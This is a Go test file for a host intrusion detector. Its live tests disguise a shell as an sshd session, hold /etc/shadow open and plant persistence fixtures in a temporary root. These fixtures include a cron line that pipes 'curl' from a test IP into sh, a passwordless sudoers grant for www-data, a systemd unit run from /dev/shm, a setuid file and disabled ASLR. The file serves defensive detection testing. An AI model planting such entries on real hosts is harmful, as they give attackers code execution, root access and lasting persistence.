package detectors

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/smoothtask/smoothtask/metrics"
	"github.com/smoothtask/smoothtask/metrics/procfs"
	"github.com/smoothtask/smoothtask/threats"
	"github.com/smoothtask/smoothtask/threats/threatstest"
)

func programPath(t *testing.T, program string) string {
	t.Helper()
	path, err := exec.LookPath(program)
	if err != nil {
		t.Skipf("there is no %s", program)
	}
	return path
}

// child waits for the child of a process that a predicate accepts.
func child(t *testing.T, parent int, ok func(cmdline string) bool) int {
	t.Helper()
	for end := time.Now().Add(30 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		dirs, _ := filepath.Glob("/proc/[0-9]*/stat")
		for _, d := range dirs {
			data, err := os.ReadFile(d)
			if err != nil {
				continue
			}
			_, after, _ := strings.Cut(string(data), ") ")
			var state string
			var ppid, pid int
			fmt.Sscan(after, &state, &ppid)
			fmt.Sscan(string(data), &pid)
			cmdline, _ := os.ReadFile(filepath.Dir(d) + "/cmdline")
			if ppid == parent && ok(string(cmdline)) {
				return pid
			}
		}
	}
	t.Fatalf("pid %d has no such child", parent)
	return 0
}

func TestLiveSystemTerminal(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only root can become another user")
	}
	script, setpriv, bash := programPath(t, "script"), programPath(t, "setpriv"), programPath(t, "bash")
	passwd, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	uid := uint32(0)
	for _, a := range parsePasswd(string(passwd)) {
		if a.system() && a.uid < firstPerson && a.barred() {
			uid = a.uid
		}
	}
	if uid == 0 {
		t.Skip("there is no account of a service")
	}
	l := newLive(t, "/")
	c := exec.Command(script, "-q", "-c", fmt.Sprintf("exec %s --reuid %d --regid %d --clear-groups %s --norc -c 'sleep 300; true'", setpriv, uid, uid, bash), "/dev/null")
	c.Dir = "/"
	pid := child(t, start(t, c), func(cmdline string) bool {
		return strings.HasPrefix(cmdline, bash) && strings.Contains(cmdline, "sleep 300")
	})
	l.expect(pid, "process.system-account-terminal", threats.High)
}

func TestLiveSSHWithoutTerminal(t *testing.T) {
	dash, err := filepath.EvalSymlinks(programPath(t, "sh"))
	if err != nil || filepath.Base(dash) != "dash" && filepath.Base(dash) != "bash" {
		t.Skip("sh is part of another program, which goes by its name")
	}
	bash := programPath(t, "bash")
	data, err := os.ReadFile(dash)
	if err != nil {
		t.Fatal(err)
	}
	sshd := filepath.Join(plainDir(t), "sshd") // a shell that looks like the part of sshd that serves a session
	if err := os.WriteFile(sshd, data, 0o755); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(sshd, "-c", bash+" --norc -i -c 'sleep 300; true'; true")
	c.Args[0] = "sshd: nobody@notty"
	l := newLive(t, t.TempDir())
	pid := child(t, start(t, c), func(cmdline string) bool { return strings.HasPrefix(cmdline, bash) })
	l.until(pid, func(found map[string]threats.Severity) string {
		if s, ok := found["login.ssh-without-terminal"]; !ok || s != threats.Medium {
			return "an interactive shell below sshd is not found"
		}
		return ""
	})
}

// deepLook runs a Deep detector over one process, past the engine's queue, which
// may be long on a busy machine.
func deepLook(t *testing.T, d threats.Detector, pid int) []threats.Finding {
	t.Helper()
	procs, err := procfs.New(procfs.Options{})
	if err != nil {
		t.Skipf("no /proc to read: %v", err)
	}
	defer procs.Close()
	fsys, err := procfs.NewFS("")
	if err != nil {
		t.Fatal(err)
	}
	s := &metrics.Snapshot{At: time.Now()}
	if s.Processes, err = procs.Append(context.Background(), nil); err != nil {
		t.Fatal(err)
	}
	i := s.Find(int32(pid))
	if i < 0 {
		t.Fatalf("pid %d is not listed", pid)
	}
	in := threats.NewInput(s.At, s, nil, nil, nil)
	in.Look = []int32{int32(i)}
	if in.Detail, err = procfs.NewInspector(fsys, 512<<20).Inspect(context.Background(), s.Processes[i].Key, d.Info().Parts); err != nil {
		t.Fatal(err)
	}
	return d.Detect(in, nil)
}

func TestLiveSensitiveFile(t *testing.T) {
	shadow, err := os.Open("/etc/shadow")
	if err != nil {
		t.Skipf("cannot open /etc/shadow: %v", err)
	}
	defer shadow.Close()
	c := as(t, "sleep")
	c.ExtraFiles = []*os.File{shadow}
	if got := deepLook(t, sensitiveFiles{}, start(t, c)); len(got) != 1 || got[0].Severity != threats.High {
		t.Errorf("%s", threatstest.String(got))
	}
	if got := deepLook(t, sensitiveFiles{}, start(t, as(t, "sleep"))); len(got) != 0 {
		t.Errorf("without the file:%s", threatstest.String(got))
	}
}

func TestLiveHistoryEnvironment(t *testing.T) {
	script, bash := programPath(t, "script"), programPath(t, "bash")
	c := exec.Command(script, "-q", "-c", "exec "+bash+" --norc -c 'sleep 300; true'", "/dev/null")
	c.Env = append(os.Environ(), "HISTFILE=/dev/null")
	pid := child(t, start(t, c), func(cmdline string) bool {
		return strings.HasPrefix(cmdline, bash) && strings.Contains(cmdline, "sleep 300")
	})
	if got := deepLook(t, historyEnvironment{}, pid); len(got) != 1 || got[0].Severity != threats.Medium {
		t.Errorf("%s", threatstest.String(got))
	}
}

// TestLiveHostFiles has the engine look at files below another root, as it does
// at those of the machine.
func TestLiveHostFiles(t *testing.T) {
	w := threatstest.New(t)
	file("/etc/cron.d/x", "* * * * * root curl -s http://203.0.113.9/x | sh\n")(w)
	w.File("/etc/systemd/system/x.service", "[Service]\nExecStart=/dev/shm/x\n", 0o644)
	w.File("/etc/sudoers.d/x", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
	w.File("/tmp/x", "", 0o755|os.ModeSetuid)
	w.File("/proc/sys/kernel/randomize_va_space", "0\n", 0o644)
	w.File("/var/log/auth.log", failedLogins(80, time.Now().Add(-time.Minute), 100*time.Millisecond, "root", attacker)+
		accepted(time.Now(), "password", "root", attacker), 0o640)
	want := map[string]bool{"persistence.cron": true, "persistence.systemd": true, "persistence.sudoers": true, "persistence.setuid-file": true,
		"defence.aslr-off": true, "login.brute-force": true, "login.after-failures": true}
	l := newLive(t, w.Root)
	var r *threats.Report
	for end := time.Now().Add(60 * time.Second); len(want) > 0 && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		r = l.look()
		for i := range r.Findings {
			delete(want, r.Findings[i].Info.ID)
			for _, p := range r.Findings[i].Parts {
				delete(want, p.Detector)
			}
		}
	}
	if len(want) > 0 {
		t.Errorf("not found: %v%s", want, threatstest.String(r.Findings))
	}
}
